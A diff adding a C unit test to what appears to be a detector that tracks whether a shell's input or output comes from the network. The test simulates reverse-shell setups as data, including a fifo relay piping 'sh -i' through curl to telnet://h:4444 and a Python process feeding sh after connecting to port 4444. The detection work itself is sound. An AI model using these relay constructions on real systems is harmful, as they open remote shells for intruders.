@@ -403,6 +403,67 @@ static void test_archive_extracted(void **state)
 	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
 }
 
+/*
+ * A process that connected and feeds a shell itself, through a pipe or a
+ * socketpair it made (subprocess.Popen(["sh"], stdin=PIPE), node's spawn);
+ * and a shell whose output a network program reads (a relay).
+ */
+static void test_parent_fed_and_relay(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = fork_of(w, NULL), *py, *sh, *npm, *cat, *relay;
+
+	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "x.sh"), 0, 0, NULL);
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "agent.py"), 0, 0, NULL);
+	sh = fork_of(w, py);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 60, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE); /* it fetched nothing yet */
+	connect_of(w, py, 4444, 0);
+	assert_true(rejudged(w, sh));
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
+	/* node's spawn: a Unix socketpair */
+	sh = fork_of(w, py);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 0, 0, NULL);
+	sh->stdio[0].kind = BW_STDIO_SOCKET;
+	sh->stdio[0].family = AF_UNIX;
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_LOCAL_SOCKET | BW_PROV_NETWORK);
+	/* a pipe some program writes is that program's, not the parent's */
+	cat = fork_of(w, py);
+	sh = fork_of(w, py);
+	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "build.sh"), 0, 61, NULL);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 61, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
+	/* a package manager feeding its install scripts */
+	npm = fork_of(w, shell);
+	exec_as(w, npm, "/usr/bin/npm", ARGV("npm", "ci"), 0, 0, NULL);
+	connect_of(w, npm, 443, 0);
+	sh = fork_of(w, npm);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 62, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
+
+	/* cat fifo | sh -i 2>&1 | relay > fifo: the relay may start last */
+	cat = fork_of(w, shell);
+	sh = fork_of(w, shell);
+	relay = fork_of(w, shell);
+	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "/tmp/f"), 0, 63, NULL);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", "-i"), 63, 64, NULL);
+	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE);
+	exec_as(w, relay, "/usr/bin/curl", ARGV("curl", "-T", "-", "telnet://h:4444"), 64, 0,
+		NULL);
+	assert_true(rejudged(w, sh));
+	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
+	/* a relay that is no downloader by name: once it connects */
+	sh = fork_of(w, shell);
+	relay = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 0, 65, NULL);
+	exec_as(w, relay, "/usr/bin/python3.11", ARGV("python3", "relay.py"), 65, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE);
+	connect_of(w, relay, 4444, 0);
+	assert_true(rejudged(w, sh));
+	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
+}
+
 static uint32_t prog(struct world *w, const char *exe, const char *const *argv)
 {
 	struct bw_proc *p = fork_of(w, NULL);
@@ -728,6 +789,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_archive_extracted, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_parent_fed_and_relay, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
